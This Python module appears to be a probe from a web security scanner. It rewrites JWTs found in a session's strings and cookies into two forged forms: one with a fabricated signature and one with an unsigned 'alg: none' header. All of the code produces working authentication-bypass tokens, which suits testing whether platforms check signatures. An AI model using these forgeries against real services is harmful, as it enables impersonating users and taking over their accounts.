"""Tokens that say themselves who somebody is (JWT), as somebody writes them who has no key.

    header.claims.signature   with a signature made up            a platform that only reads the claims believes it
                              with "alg": "none" and no signature  a platform that believes the header does

Whoever may write such a token is any customer he likes. Source: RFC 7519 section 6, RFC 8725 section 2.1.
"""

import re
from base64 import urlsafe_b64encode
from collections.abc import Callable, Mapping
from hashlib import sha512
from typing import Any

_JWT = re.compile(r"\beyJ[\w-]+\.([\w-]+)\.([\w-]+)")
_NONE = urlsafe_b64encode(b'{"alg":"none","typ":"JWT"}').decode().rstrip("=")


def made_up(scope: Mapping[str, Any]) -> list[dict[str, Any]]:
    """Return the scope of a session with each kind of such a token in place of its own; nothing if it has none."""
    found = [_rewritten(scope, write) for write in (_signed_anyhow, _unsigned)]
    return [one for one in found if one is not None]


def _rewritten(
    scope: Mapping[str, Any], write: Callable[[re.Match[str]], str]
) -> dict[str, Any] | None:
    texts = {key: value for key, value in scope.items() if isinstance(value, str)}
    cookies = dict(scope.get("cookies") or {})
    new_texts = {key: _JWT.sub(write, value) for key, value in texts.items()}
    new_cookies = {key: _JWT.sub(write, str(value)) for key, value in cookies.items()}
    if new_texts == texts and new_cookies == cookies:
        return None
    return {**scope, **new_texts, "cookies": new_cookies}


def _signed_anyhow(token: re.Match[str]) -> str:
    signature = token[2]
    made = urlsafe_b64encode(sha512(signature.encode()).digest() * (len(signature) // 64 + 1))
    return f"{token[0][: -len(signature)]}{made.decode()[: len(signature)]}"


def _unsigned(token: re.Match[str]) -> str:
    return f"{_NONE}.{token[1]}."
